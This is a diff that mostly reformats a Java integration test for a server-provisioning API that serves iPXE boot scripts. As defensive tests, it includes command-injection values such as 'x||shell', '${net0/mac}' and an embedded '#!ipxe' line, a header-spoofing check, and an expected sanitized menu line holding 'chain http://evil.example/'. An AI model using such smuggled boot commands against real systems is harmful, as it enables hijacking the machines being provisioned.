@@ -6,7 +6,6 @@ import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import jakarta.json.Json;
-import jakarta.json.JsonNumber;
 import jakarta.json.JsonObject;
 import jakarta.json.JsonObjectBuilder;
 import jakarta.json.JsonValue;
@@ -61,12 +60,12 @@ class ServerActionsIT {
     URL base;
 
     /** A machine nobody has seen yet: a MAC and an IP address of its own. */
-    private record Machine(String mac, String ip) {
-    }
+    private record Machine(String mac, String ip) {}
 
     private static Machine newMachine() {
         int n = MACHINES.incrementAndGet();
-        return new Machine(String.format("02:5a:%02x:00:%02x:%02x", RUN, n / 256, n % 256),
+        return new Machine(
+                String.format("02:5a:%02x:00:%02x:%02x", RUN, n / 256, n % 256),
                 "10." + RUN + "." + (n / 250) + "." + (n % 250 + 1));
     }
 
@@ -79,18 +78,26 @@ class ServerActionsIT {
         return fromAddress(machine.ip(), method, path, body, Map.of());
     }
 
-    private Api.Response fromAddress(String ip, String method, String path, JsonObject body, Map<String, String> headers) throws Exception {
+    private Api.Response fromAddress(
+            String ip, String method, String path, JsonObject body, Map<String, String> headers) throws Exception {
         Map<String, String> all = new HashMap<>(headers);
         all.put("X-Forwarded-For", ip);
-        return proxy().send(method, path, body == null ? null : "application/json", body == null ? null : body.toString(), all);
+        return proxy().send(
+                        method,
+                        path,
+                        body == null ? null : "application/json",
+                        body == null ? null : body.toString(),
+                        all);
     }
 
     private Api.Response file(Machine caller, String address) throws Exception {
-        return fromMachine(caller, "GET", ACTIONS + "/file?address=" + URLEncoder.encode(address, StandardCharsets.UTF_8), null);
+        return fromMachine(
+                caller, "GET", ACTIONS + "/file?address=" + URLEncoder.encode(address, StandardCharsets.UTF_8), null);
     }
 
     private Api.Response menu(Machine caller, String address) throws Exception {
-        return fromMachine(caller, "GET", ACTIONS + "/menu?address=" + URLEncoder.encode(address, StandardCharsets.UTF_8), null);
+        return fromMachine(
+                caller, "GET", ACTIONS + "/menu?address=" + URLEncoder.encode(address, StandardCharsets.UTF_8), null);
     }
 
     private Api.Response report(Machine machine, String state, Object percent, String text) throws Exception {
@@ -114,7 +121,10 @@ class ServerActionsIT {
     }
 
     private static JsonObject schedule(Machine machine, String action, String template, String hostname) {
-        JsonObjectBuilder body = Json.createObjectBuilder().add("mac_address", machine.mac()).add("address", machine.ip()).add("action", action);
+        JsonObjectBuilder body = Json.createObjectBuilder()
+                .add("mac_address", machine.mac())
+                .add("address", machine.ip())
+                .add("action", action);
         if (template != null) {
             body.add("template", template);
         }
@@ -174,11 +184,24 @@ class ServerActionsIT {
     void schedulingAnswersTheActionWithANumericId() {
         Api owner = Api.at(base).newCustomer().api();
         Machine machine = newMachine();
-        Api.Response created = owner.json("POST", ACTIONS + "/create", Json.createObjectBuilder()
-                .add("mac_address", machine.mac().toUpperCase().replace(':', '-')).add("address", machine.ip())
-                .add("action", "INSTALL").add("template", "debian-12").add("hostname", "Web1.Example.com").build());
+        Api.Response created = owner.json(
+                "POST",
+                ACTIONS + "/create",
+                Json.createObjectBuilder()
+                        .add("mac_address", machine.mac().toUpperCase().replace(':', '-'))
+                        .add("address", machine.ip())
+                        .add("action", "INSTALL")
+                        .add("template", "debian-12")
+                        .add("hostname", "Web1.Example.com")
+                        .build());
         assertEquals(201, created.status(), created.body());
-        assertEquals(2030, created.envelope().getJsonObject("messages").getJsonArray("success").getJsonObject(0).getInt("code"));
+        assertEquals(
+                2030,
+                created.envelope()
+                        .getJsonObject("messages")
+                        .getJsonArray("success")
+                        .getJsonObject(0)
+                        .getInt("code"));
         JsonObject action = created.data().getJsonObject("action");
         assertEquals(JsonValue.ValueType.NUMBER, action.get("id").getValueType());
         assertEquals(machine.mac(), action.getString("mac_address"), "stored in one spelling");
@@ -191,8 +214,10 @@ class ServerActionsIT {
         assertTrue(action.isNull("finished_at"));
         assertTrue(action.getString("created_at").matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}"));
 
-        List<JsonObject> listed = owner.get(ACTIONS).data().getJsonArray("actions").getValuesAs(JsonObject.class);
-        assertEquals(List.of(id(action)), listed.stream().map(ServerActionsIT::id).toList());
+        List<JsonObject> listed =
+                owner.get(ACTIONS).data().getJsonArray("actions").getValuesAs(JsonObject.class);
+        assertEquals(
+                List.of(id(action)), listed.stream().map(ServerActionsIT::id).toList());
         JsonObject shown = show(owner, id(action));
         assertEquals(machine.mac(), shown.getString("mac_address"));
         assertEquals(0, shown.getJsonArray("reports").size());
@@ -201,9 +226,16 @@ class ServerActionsIT {
     @Test
     void schedulingValidatesEveryField() {
         Api owner = Api.at(base).newCustomer().api();
-        Api.Response bad = owner.json("POST", ACTIONS + "/create", Json.createObjectBuilder()
-                .add("mac_address", "aa:bb:cc:dd:ee").add("address", "server1.example").add("action", "REBOOT")
-                .add("template", "debian 12; shell").add("hostname", "web_1 ${x}").build());
+        Api.Response bad = owner.json(
+                "POST",
+                ACTIONS + "/create",
+                Json.createObjectBuilder()
+                        .add("mac_address", "aa:bb:cc:dd:ee")
+                        .add("address", "server1.example")
+                        .add("action", "REBOOT")
+                        .add("template", "debian 12; shell")
+                        .add("hostname", "web_1 ${x}")
+                        .build());
         assertEquals(422, bad.status(), bad.body());
         assertEquals(Set.of("mac_address", "address", "action", "template", "hostname"), Set.copyOf(bad.errorFields()));
 
@@ -212,15 +244,18 @@ class ServerActionsIT {
         assertEquals(422, noTemplate.status(), noTemplate.body());
         assertEquals(List.of("template"), noTemplate.errorFields());
         assertEquals(List.of(4221), noTemplate.errorCodes());
-        Api.Response templateForRescue = owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", "debian-12", null));
+        Api.Response templateForRescue =
+                owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", "debian-12", null));
         assertEquals(422, templateForRescue.status());
         assertEquals(List.of(4225), templateForRescue.errorCodes());
         for (String injection : List.of("${net0/mac}", "x||shell", "#x", "-x", "a b")) {
-            Api.Response refused = owner.json("POST", ACTIONS + "/create", schedule(machine, "INSTALL", injection, null));
+            Api.Response refused =
+                    owner.json("POST", ACTIONS + "/create", schedule(machine, "INSTALL", injection, null));
             assertEquals(422, refused.status(), injection);
             assertEquals(List.of("template"), refused.errorFields());
         }
-        Api.Response missing = owner.json("POST", ACTIONS + "/create", Json.createObjectBuilder().build());
+        Api.Response missing = owner.json(
+                "POST", ACTIONS + "/create", Json.createObjectBuilder().build());
         assertEquals(Set.of("mac_address", "address", "action"), Set.copyOf(missing.errorFields()));
         assertEquals(0, owner.get(ACTIONS).data().getJsonArray("actions").size(), "nothing stored");
     }
@@ -239,7 +274,8 @@ class ServerActionsIT {
         Api.Response elsewhere = other.json("POST", ACTIONS + "/create", schedule(machine, "LOCAL_BOOT", null, null));
         assertError(elsewhere, 409, 4090);
         // the messages and data, as a whole number: the request id, a UUID, may hold the digits by chance
-        String said = elsewhere.envelope().getJsonObject("messages").toString() + elsewhere.envelope().get("data");
+        String said = elsewhere.envelope().getJsonObject("messages").toString()
+                + elsewhere.envelope().get("data");
         assertFalse(said.matches("(?s).*\\b" + first + "\\b.*"), "nothing said of whose action it is: " + said);
 
         assertEquals(200, report(machine, "RUNNING", 5, "Rescue system booted").status());
@@ -258,7 +294,8 @@ class ServerActionsIT {
         try {
             List<Future<Api.Response>> answers = new ArrayList<>();
             for (int i = 0; i < 6; i++) {
-                answers.add(pool.submit(() -> owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null))));
+                answers.add(pool.submit(
+                        () -> owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null))));
             }
             List<Integer> statuses = new ArrayList<>();
             for (Future<Api.Response> answer : answers) {
@@ -282,7 +319,10 @@ class ServerActionsIT {
         assertEquals(0, other.get(ACTIONS).data().getJsonArray("actions").size());
         assertEquals("PENDING", show(owner, id).getString("state"), "not cancelled by the other account");
         assertError(Api.at(base).get(ACTIONS), 401, 4010);
-        assertError(Api.at(base).json("POST", ACTIONS + "/create", schedule(newMachine(), "RESCUE", null, null)), 401, 4010);
+        assertError(
+                Api.at(base).json("POST", ACTIONS + "/create", schedule(newMachine(), "RESCUE", null, null)),
+                401,
+                4010);
     }
 
     // --- file and menu ----------------------------------------------------------------------
@@ -293,8 +333,13 @@ class ServerActionsIT {
         Machine machine = newMachine();
         long id = id(create(owner, machine, "INSTALL", "debian-12"));
         String upper = machine.mac().toUpperCase();
-        List<String> spellings = List.of(machine.mac(), upper, upper.replace(':', '-'), machine.mac().replace(':', '-'),
-                machine.mac().substring(0, 9) + upper.substring(9), machine.ip());
+        List<String> spellings = List.of(
+                machine.mac(),
+                upper,
+                upper.replace(':', '-'),
+                machine.mac().replace(':', '-'),
+                machine.mac().substring(0, 9) + upper.substring(9),
+                machine.ip());
         String expected = null;
         for (String spelling : spellings) {
             Api.Response script = file(machine, spelling);
@@ -305,12 +350,22 @@ class ServerActionsIT {
             }
             assertEquals(expected, script.body(), spelling);
         }
-        assertTrue(expected.contains("\nkernel http://boot.test.example/debian-12/linux initrd=initrd auto=true priority=critical "
-                + "url=http://boot.test.example/preseed/debian-12.cfg server_action=" + id + " status_url=" + statusUrl()
-                + " template=debian-12 || goto failed\n"), expected);
-        assertTrue(expected.contains("\ninitrd --name initrd http://boot.test.example/debian-12/initrd.gz || goto failed\nboot || goto failed\n"), expected);
-        assertTrue(expected.endsWith(":failed\necho Server action " + id + ": the boot failed, booting from the local disk\n"
-                + "sanboot --no-describe --drive 0x80 || exit\n"), expected);
+        assertTrue(
+                expected.contains(
+                        "\nkernel http://boot.test.example/debian-12/linux initrd=initrd auto=true priority=critical "
+                                + "url=http://boot.test.example/preseed/debian-12.cfg server_action=" + id
+                                + " status_url=" + statusUrl()
+                                + " template=debian-12 || goto failed\n"),
+                expected);
+        assertTrue(
+                expected.contains(
+                        "\ninitrd --name initrd http://boot.test.example/debian-12/initrd.gz || goto failed\nboot || goto failed\n"),
+                expected);
+        assertTrue(
+                expected.endsWith(
+                        ":failed\necho Server action " + id + ": the boot failed, booting from the local disk\n"
+                                + "sanboot --no-describe --drive 0x80 || exit\n"),
+                expected);
     }
 
     @Test
@@ -328,7 +383,8 @@ class ServerActionsIT {
         assertEquals(200, report(running, "RUNNING", 1, "Installer started").status());
         Api.Response started = file(caller, running.mac());
         assertLocalBoot(started);
-        assertEquals(unknownMac.body(), started.body(), "a started action is not booted again, and tells nothing of itself");
+        assertEquals(
+                unknownMac.body(), started.body(), "a started action is not booted again, and tells nothing of itself");
 
         Machine local = newMachine();
         long id = id(create(owner, local, "LOCAL_BOOT", null));
@@ -345,7 +401,14 @@ class ServerActionsIT {
         assertTrue(file(machine, machine.mac()).body().contains("kernel "));
         Api.Response cancelled = owner.json("POST", ACTIONS + "/cancel", idBody(id));
         assertEquals(200, cancelled.status(), cancelled.body());
-        assertEquals(2031, cancelled.envelope().getJsonObject("messages").getJsonArray("success").getJsonObject(0).getInt("code"));
+        assertEquals(
+                2031,
+                cancelled
+                        .envelope()
+                        .getJsonObject("messages")
+                        .getJsonArray("success")
+                        .getJsonObject(0)
+                        .getInt("code"));
         JsonObject action = cancelled.data().getJsonObject("action");
         assertEquals("CANCELLED", action.getString("state"));
         assertFalse(action.isNull("finished_at"));
@@ -361,7 +424,8 @@ class ServerActionsIT {
     @Test
     void malformedAddressesAre400InTheEnvelope() throws Exception {
         Machine caller = newMachine();
-        for (String bad : List.of("aa:bb:cc:dd:ee", "not-an-address", "999.1.1.1", "aa:bb:cc:dd:ee:ff\n#!ipxe", "${net0/mac}")) {
+        for (String bad :
+                List.of("aa:bb:cc:dd:ee", "not-an-address", "999.1.1.1", "aa:bb:cc:dd:ee:ff\n#!ipxe", "${net0/mac}")) {
             assertError(file(caller, bad), 400, 4002);
             assertError(menu(caller, bad), 400, 4002);
         }
@@ -377,7 +441,8 @@ class ServerActionsIT {
         create(owner, machine, "INSTALL", "alma-9");
         Map<String, String> json = Map.of("Accept", "application/json");
         for (String endpoint : List.of("file", "menu")) {
-            Api.Response enveloped = fromAddress(machine.ip(), "GET", ACTIONS + "/" + endpoint + "?address=" + machine.mac(), null, json);
+            Api.Response enveloped = fromAddress(
+                    machine.ip(), "GET", ACTIONS + "/" + endpoint + "?address=" + machine.mac(), null, json);
             assertEquals(200, enveloped.status(), enveloped.body());
             assertEquals("application/json; charset=utf-8", enveloped.header("Content-Type"));
             assertEquals("success", enveloped.envelope().getString("status"));
@@ -385,11 +450,20 @@ class ServerActionsIT {
             assertTrue(script.startsWith("#!ipxe\n"));
             IpxeSyntax.assertValid(script);
             assertTrue(script.contains("template=alma-9"), script);
-            Api.Response plain = fromAddress(machine.ip(), "GET", ACTIONS + "/" + endpoint + "?address=" + machine.mac(), null,
+            Api.Response plain = fromAddress(
+                    machine.ip(),
+                    "GET",
+                    ACTIONS + "/" + endpoint + "?address=" + machine.mac(),
+                    null,
                     Map.of("Accept", "text/plain, application/json;q=0.5"));
             assertScript(plain);
             assertEquals(script, plain.body(), "the same script either way");
-            assertScript(fromAddress(machine.ip(), "GET", ACTIONS + "/" + endpoint + "?address=" + machine.mac(), null, Map.of("Accept", "*/*")));
+            assertScript(fromAddress(
+                    machine.ip(),
+                    "GET",
+                    ACTIONS + "/" + endpoint + "?address=" + machine.mac(),
+                    null,
+                    Map.of("Accept", "*/*")));
         }
     }
 
@@ -398,21 +472,31 @@ class ServerActionsIT {
         Api owner = Api.at(base).newCustomer().api();
         Machine machine = newMachine();
         long id = id(owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, "db1.example.com"))
-                .data().getJsonObject("action"));
+                .data()
+                .getJsonObject("action"));
         Api.Response menu = menu(machine, machine.mac().replace(':', '-'));
         assertScript(menu);
         String body = menu.body();
         assertTrue(body.startsWith("#!ipxe\nmenu Boot menu for db1.example.com\n"), body);
-        assertTrue(body.contains("\nitem local Boot from the local disk\nitem rescue Rescue system on db1.example.com\n"), body);
-        assertTrue(body.contains("\nchoose --default rescue --timeout 7000 selected || goto local\ngoto ${selected}\n"), body);
+        assertTrue(
+                body.contains("\nitem local Boot from the local disk\nitem rescue Rescue system on db1.example.com\n"),
+                body);
+        assertTrue(
+                body.contains("\nchoose --default rescue --timeout 7000 selected || goto local\ngoto ${selected}\n"),
+                body);
         // RESCUE is configured (pom.xml) to chain to a script of its own, with the action in settings.
-        assertTrue(body.contains("\n:rescue\nset server_action " + id + "\nset status_url " + statusUrl()
-                + "\nchain --autofree http://boot.test.example/rescue.ipxe?mac=" + machine.mac() + " || goto local\n"), body);
+        assertTrue(
+                body.contains("\n:rescue\nset server_action " + id + "\nset status_url " + statusUrl()
+                        + "\nchain --autofree http://boot.test.example/rescue.ipxe?mac=" + machine.mac()
+                        + " || goto local\n"),
+                body);
         assertTrue(body.endsWith("\n:local\nsanboot --no-describe --drive 0x80 || exit\n"), body);
 
         Api.Response unknown = menu(machine, "02:00:5e:00:00:01");
         assertScript(unknown);
-        assertTrue(unknown.body().contains("\nchoose --default local --timeout 7000 selected || goto local\n"), unknown.body());
+        assertTrue(
+                unknown.body().contains("\nchoose --default local --timeout 7000 selected || goto local\n"),
+                unknown.body());
         assertFalse(unknown.body().contains("rescue"), unknown.body());
     }
 
@@ -426,15 +510,24 @@ class ServerActionsIT {
 
         Api.Response running = report(machine, "RUNNING", "10", "Partitioning");
         assertEquals(200, running.status(), running.body());
-        assertEquals(2032, running.envelope().getJsonObject("messages").getJsonArray("success").getJsonObject(0).getInt("code"));
+        assertEquals(
+                2032,
+                running.envelope()
+                        .getJsonObject("messages")
+                        .getJsonArray("success")
+                        .getJsonObject(0)
+                        .getInt("code"));
         JsonObject progress = running.data().getJsonObject("action");
-        assertEquals(Set.of("id", "action", "state", "state_percent", "state_text", "updated_at"), progress.keySet(),
+        assertEquals(
+                Set.of("id", "action", "state", "state_percent", "state_text", "updated_at"),
+                progress.keySet(),
                 "the machine learns nothing of the account");
         assertEquals(id, id(progress));
         assertEquals("RUNNING", progress.getString("state"));
         assertEquals(10, progress.getInt("state_percent"));
         assertEquals(200, report(machine, "RUNNING", 60, "Installing packages").status());
-        assertEquals(200, report(machine, "RUNNING", 60, "Still installing packages").status(), "the same percentage again");
+        assertEquals(
+                200, report(machine, "RUNNING", 60, "Still installing packages").status(), "the same percentage again");
         assertEquals(200, report(machine, "DONE", 100, "Installed").status());
 
         JsonObject shown = show(owner, id);
@@ -443,15 +536,23 @@ class ServerActionsIT {
         assertEquals("Installed", shown.getString("state_text"));
         assertFalse(shown.isNull("finished_at"));
         List<JsonObject> history = shown.getJsonArray("reports").getValuesAs(JsonObject.class);
-        assertEquals(List.of("RUNNING", "RUNNING", "RUNNING", "DONE"), history.stream().map(r -> r.getString("state")).toList());
-        assertEquals(List.of(10, 60, 60, 100), history.stream().map(r -> r.getInt("state_percent")).toList());
+        assertEquals(
+                List.of("RUNNING", "RUNNING", "RUNNING", "DONE"),
+                history.stream().map(r -> r.getString("state")).toList());
+        assertEquals(
+                List.of(10, 60, 60, 100),
+                history.stream().map(r -> r.getInt("state_percent")).toList());
         assertEquals("Partitioning", history.get(0).getString("state_text"));
-        assertTrue(history.stream().allMatch(r -> r.getString("reported_by").equals("MACHINE")
-                && r.getString("reported_at").matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}")));
+        assertTrue(history.stream()
+                .allMatch(r -> r.getString("reported_by").equals("MACHINE")
+                        && r.getString("reported_at").matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}")));
 
         Machine cancelling = newMachine();
         long fromPending = id(create(owner, cancelling, "RESCUE", null));
-        assertEquals(200, report(cancelling, "CANCELLED", 0, "Operator aborted at the console").status());
+        assertEquals(
+                200,
+                report(cancelling, "CANCELLED", 0, "Operator aborted at the console")
+                        .status());
         assertEquals("CANCELLED", show(owner, fromPending).getString("state"));
         long fromRunning = id(create(owner, cancelling, "RESCUE", null));
         assertEquals(200, report(cancelling, "RUNNING", 30, "Up").status());
@@ -494,19 +595,27 @@ class ServerActionsIT {
         assertEquals(422, below.status(), below.body());
         assertEquals(List.of("state_percent"), below.errorFields());
         assertEquals(List.of(4223), below.errorCodes());
-        assertEquals(List.of("state_percent"), report(machine, "RUNNING", 101, "x").errorFields());
-        assertEquals(List.of("state_percent"), report(machine, "RUNNING", "half", "x").errorFields());
+        assertEquals(
+                List.of("state_percent"), report(machine, "RUNNING", 101, "x").errorFields());
+        assertEquals(
+                List.of("state_percent"),
+                report(machine, "RUNNING", "half", "x").errorFields());
         assertEquals(List.of("state"), report(machine, "BOOTING", 5, "x").errorFields());
         Api.Response empty = report(machine, null, null, null);
         assertEquals(422, empty.status());
         assertEquals(Set.of("state", "state_percent", "state_text"), Set.copyOf(empty.errorFields()));
-        assertEquals(List.of("state_text"), report(machine, "RUNNING", 5, "a\nb").errorFields(), "no control characters");
+        assertEquals(
+                List.of("state_text"), report(machine, "RUNNING", 5, "a\nb").errorFields(), "no control characters");
         assertEquals(0, show(owner, id).getJsonArray("reports").size());
         assertEquals(200, report(machine, "RUNNING", 0, "Zero").status());
         assertEquals(200, report(machine, "RUNNING", 100, "Hundred").status());
         // Form bodies, as a shell script on the machine would send with curl.
-        Api.Response form = proxy().send("POST", ACTIONS + "/status", "application/x-www-form-urlencoded",
-                "state=DONE&state_percent=100&state_text=Done+via+curl", Map.of("X-Forwarded-For", machine.ip()));
+        Api.Response form = proxy().send(
+                        "POST",
+                        ACTIONS + "/status",
+                        "application/x-www-form-urlencoded",
+                        "state=DONE&state_percent=100&state_text=Done+via+curl",
+                        Map.of("X-Forwarded-For", machine.ip()));
         assertEquals(200, form.status(), form.body());
         assertEquals("Done via curl", show(owner, id).getString("state_text"));
     }
@@ -527,7 +636,8 @@ class ServerActionsIT {
     @Test
     void onlyTheConfiguredProxyMayNameTheMachine() throws Exception {
         String hostIp = InetAddress.getByName(base.getHost()).getHostAddress();
-        assertFalse(InetAddress.getByName(hostIp).isLoopbackAddress(),
+        assertFalse(
+                InetAddress.getByName(hostIp).isLoopbackAddress(),
                 "the test needs the service reached at a non-loopback address; it is reached at " + base);
         Api owner = Api.at(base).newCustomer().api();
         Machine host = new Machine(newMachine().mac(), hostIp);
@@ -537,11 +647,19 @@ class ServerActionsIT {
         try {
             // Straight from the machine's IP, which is not a trusted proxy: X-Forwarded-For is ignored,
             // and the report is the connection's own, matched by getRemoteAddr().
-            Api.Response direct = Api.at(base).send("POST", ACTIONS + "/status", "application/json",
-                    status("RUNNING", 10, "Direct").toString(), Map.of("X-Forwarded-For", named.ip()));
+            Api.Response direct = Api.at(base)
+                    .send(
+                            "POST",
+                            ACTIONS + "/status",
+                            "application/json",
+                            status("RUNNING", 10, "Direct").toString(),
+                            Map.of("X-Forwarded-For", named.ip()));
             assertEquals(200, direct.status(), direct.body());
             assertEquals(hostAction, id(direct.data().getJsonObject("action")));
-            assertEquals("PENDING", show(owner, namedAction).getString("state"), "not reported for the machine named in the header");
+            assertEquals(
+                    "PENDING",
+                    show(owner, namedAction).getString("state"),
+                    "not reported for the machine named in the header");
 
             // Through 127.0.0.1, the configured proxy: the header names the machine.
             Api.Response proxied = report(named, "RUNNING", 20, "Via the proxy");
@@ -550,12 +668,25 @@ class ServerActionsIT {
             assertEquals(10, show(owner, hostAction).getInt("state_percent"));
 
             // The rightmost hop a trusted proxy appended counts, not what the client put before it.
-            Api.Response spoofed = proxy().send("POST", ACTIONS + "/status", "application/json",
-                    status("RUNNING", 30, "Spoofed").toString(), Map.of("X-Forwarded-For", named.ip() + ", " + newMachine().ip()));
+            Api.Response spoofed = proxy().send(
+                            "POST",
+                            ACTIONS + "/status",
+                            "application/json",
+                            status("RUNNING", 30, "Spoofed").toString(),
+                            Map.of(
+                                    "X-Forwarded-For",
+                                    named.ip() + ", " + newMachine().ip()));
             assertError(spoofed, 404, 4040);
             assertEquals(20, show(owner, namedAction).getInt("state_percent"));
-            assertError(proxy().send("POST", ACTIONS + "/status", "application/json", status("RUNNING", 30, "x").toString(),
-                    Map.of("X-Forwarded-For", "unknown")), 400, 4002);
+            assertError(
+                    proxy().send(
+                                    "POST",
+                                    ACTIONS + "/status",
+                                    "application/json",
+                                    status("RUNNING", 30, "x").toString(),
+                                    Map.of("X-Forwarded-For", "unknown")),
+                    400,
+                    4002);
         } finally {
             owner.json("POST", ACTIONS + "/cancel", idBody(hostAction));
             owner.json("POST", ACTIONS + "/cancel", idBody(namedAction));
@@ -572,7 +703,10 @@ class ServerActionsIT {
         assertEquals(hostile, show(owner, id).getString("state_text"), "the owner sees what was sent");
         Api.Response menu = menu(machine, machine.ip());
         assertScript(menu);
-        assertTrue(menu.body().contains("\nitem --gap Last report: ok __net0/mac_ __ shell _ chain http://evil.example/ _x __ exit\n"),
+        assertTrue(
+                menu.body()
+                        .contains(
+                                "\nitem --gap Last report: ok __net0/mac_ __ shell _ chain http://evil.example/ _x __ exit\n"),
                 menu.body());
     }
 
@@ -582,11 +716,13 @@ class ServerActionsIT {
         Machine busy = newMachine();
         Machine calm = newMachine();
         for (int i = 0; i < limit; i++) {
-            Api.Response allowed = i % 3 == 0 ? file(busy, busy.mac()) : i % 3 == 1 ? menu(busy, busy.mac())
-                    : report(busy, "RUNNING", 1, "x");
+            Api.Response allowed = i % 3 == 0
+                    ? file(busy, busy.mac())
+                    : i % 3 == 1 ? menu(busy, busy.mac()) : report(busy, "RUNNING", 1, "x");
             assertTrue(allowed.status() == 200 || allowed.status() == 404, "request " + i + ": " + allowed);
         }
-        for (Api.Response refused : List.of(file(busy, busy.mac()), menu(busy, busy.ip()), report(busy, "RUNNING", 1, "x"))) {
+        for (Api.Response refused :
+                List.of(file(busy, busy.mac()), menu(busy, busy.ip()), report(busy, "RUNNING", 1, "x"))) {
             assertError(refused, 429, 4290);
             long retryAfter = Long.parseLong(refused.header("Retry-After"));
             assertTrue(retryAfter >= 1 && retryAfter <= 60, "Retry-After " + retryAfter);
